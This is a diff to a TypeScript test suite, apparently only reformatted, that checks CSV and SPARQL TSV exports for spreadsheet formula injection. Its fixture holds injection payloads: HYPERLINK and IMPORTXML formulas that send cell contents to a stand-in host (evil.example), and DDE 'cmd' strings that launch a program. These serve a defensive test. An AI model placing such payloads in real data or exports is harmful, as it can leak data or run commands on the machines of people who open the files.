@@ -20,11 +20,17 @@ import { describePostgres } from "../support/describe-postgres.ts";
 const HOSTILE: Omit<InitiativeDraft, "id"> = {
   name: '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")',
   description: "+cmd|' /C calc'!A0",
-  address: { streetAddress: "'s-Hertogenbosch Road", locality: "@SUM(1+1)*cmd|' /C calc'!A0", postcode: "=1+1", lat: 53.8, long: -1.5477 },
+  address: {
+    streetAddress: "'s-Hertogenbosch Road",
+    locality: "@SUM(1+1)*cmd|' /C calc'!A0",
+    postcode: "=1+1",
+    lat: 53.8,
+    long: -1.5477,
+  },
   phone: "+44 113 496 0000",
   sector: "-2+3+cmd|' /C calc'!A0",
   ownership: "'=already neutralised by hand",
-  translations: { fr: { name: "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")" } },
+  translations: { fr: { name: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")' } },
 };
 const FORMULA = /^[=+\-@\t\r]/;
 const NEGATIVE_DECIMAL = /^-\d+(\.\d+)?$/;
@@ -36,7 +42,11 @@ function runnable(csv: string): string[] {
 }
 
 /** @param env the environment of the instance under test (0) and of the one importing its export (1) */
-function describeCsvOutputs(title: string, env: (n: 0 | 1) => Record<string, string>, after: () => Promise<void> = async () => {}): void {
+function describeCsvOutputs(
+  title: string,
+  env: (n: 0 | 1) => Record<string, string>,
+  after: () => Promise<void> = async () => {},
+): void {
   let inst: TestInstance;
   let other: TestInstance;
   let id: string;
@@ -92,7 +102,12 @@ function describeCsvOutputs(title: string, env: (n: 0 | 1) => Record<string, str
     it("SPARQL TSV results escape a formula's first character, so the terms read back the same and no cell starts a formula.", async () => {
       const query = `SELECT ?v WHERE { { <${id}> ?p ?v } UNION { BIND("=1+1" AS ?v) } UNION { BIND("-5"^^<http://www.w3.org/2001/XMLSchema#integer> AS ?v) } }`;
       const tsv = await get(`/sparql?query=${encodeURIComponent(query)}`, "text/tab-separated-values");
-      const cells = tsv.trim().split("\n").slice(1).flatMap((l) => l.split("\t")).filter(Boolean);
+      const cells = tsv
+        .trim()
+        .split("\n")
+        .slice(1)
+        .flatMap((l) => l.split("\t"))
+        .filter(Boolean);
       const values: string[] = [];
       for (const cell of cells) {
         // What a spreadsheet sees once it takes the quotes off a quoted cell.
@@ -120,7 +135,11 @@ describeCsvOutputs("CSV outputs from SQLite", () => ({}));
 
 describePostgres("CSV outputs from PostgreSQL", () => {
   const schemas = [randomSchema("csv"), randomSchema("csv")] as const;
-  describeCsvOutputs("are safe to open", (n) => ({ DATABASE_URL: databaseUrl(schemas[n]) }), async () => {
-    for (const s of schemas) await dropSchema(s);
-  });
+  describeCsvOutputs(
+    "are safe to open",
+    (n) => ({ DATABASE_URL: databaseUrl(schemas[n]) }),
+    async () => {
+      for (const s of schemas) await dropSchema(s);
+    },
+  );
 });
